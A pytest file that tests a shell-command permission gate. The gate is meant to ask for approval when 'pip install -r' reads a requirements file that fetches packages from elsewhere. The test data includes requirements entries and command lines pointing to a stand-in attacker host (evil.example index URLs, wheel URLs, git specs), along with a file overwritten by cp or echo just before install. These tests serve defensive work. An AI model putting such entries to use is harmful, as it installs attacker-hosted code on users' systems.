"""``pip install -r FILE`` installs what the file names, with the options it gives: a custom index, a URL or a VCS
spec written into a requirements file asks as it does on the command line. Before, each was allowed
(``coding:allow-install``) however the file read."""

from __future__ import annotations

from pathlib import Path

import pytest

from tether.policy.decision import Verdict
from tether.policy.gate import shell_decision

ASKED = [
    "--index-url http://evil.example/simple\nrequests\n",
    "--extra-index-url=http://evil.example/simple\n",
    "-f http://evil.example/wheels\nrequests\n",
    "requests @ https://evil.example/requests.whl\n",
    "git+https://evil.example/x.git#egg=x\n",
    "-e git+https://evil.example/x.git#egg=x\n",
    "-r nested.txt\n",
    "requests @ ${EVIL_URL}\n",
    "requests @https://evil.example/requests.whl\n",
    "${EVIL_SPEC}\n",
]


@pytest.mark.parametrize("text", ASKED)
def test_a_requirements_file_that_fetches_from_elsewhere_asks(tmp_path: Path, text: str) -> None:
    (tmp_path / "requirements.txt").write_text(text)
    (tmp_path / "nested.txt").write_text("--index-url http://evil.example/simple\n")
    for command in ("pip install -r requirements.txt", "python -m pip install --requirement=requirements.txt"):
        decision = shell_decision(command, workspace=tmp_path)
        assert decision.verdict is Verdict.ASK and "requirements file" in decision.reason, decision.reason


def test_a_plain_or_locked_requirements_file_is_still_allowed(tmp_path: Path) -> None:
    (tmp_path / "base.txt").write_text("requests==2.31.0 \\\n    --hash=sha256:abc  # pinned\n")
    (tmp_path / "requirements.txt").write_text("# dev\n-r base.txt\n-e .\npytest>=8; python_version >= '3.8'\n")
    decision = shell_decision("pip install -r requirements.txt", workspace=tmp_path)
    assert decision.verdict is Verdict.ALLOW, decision.reason


def test_a_requirements_file_not_there_or_outside_the_workspace_asks(tmp_path: Path) -> None:
    line = "echo '--index-url http://evil.example/simple' > r.txt && pip install -r r.txt"
    assert shell_decision(line, workspace=tmp_path).verdict is Verdict.ASK
    assert shell_decision("pip install -r /etc/hostname", workspace=tmp_path).verdict is not Verdict.ALLOW


def test_a_requirements_file_an_earlier_command_in_the_line_rewrites_asks(tmp_path: Path) -> None:
    """The file is read before the line runs: what a ``cp`` before pip writes into it is not what was read."""
    (tmp_path / "requirements.txt").write_text("requests\n")
    (tmp_path / "other.txt").write_text("--index-url http://evil.example/simple\nrequests\n")
    for line in (
        "cp other.txt requirements.txt && pip install -r requirements.txt",
        "cat other.txt > requirements.txt; uv pip install -r requirements.txt",
    ):
        decision = shell_decision(line, workspace=tmp_path)
        assert decision.verdict is Verdict.ASK and "may write it" in decision.reason, decision.reason
    assert shell_decision("ls && pip install -r requirements.txt", workspace=tmp_path).verdict is Verdict.ALLOW
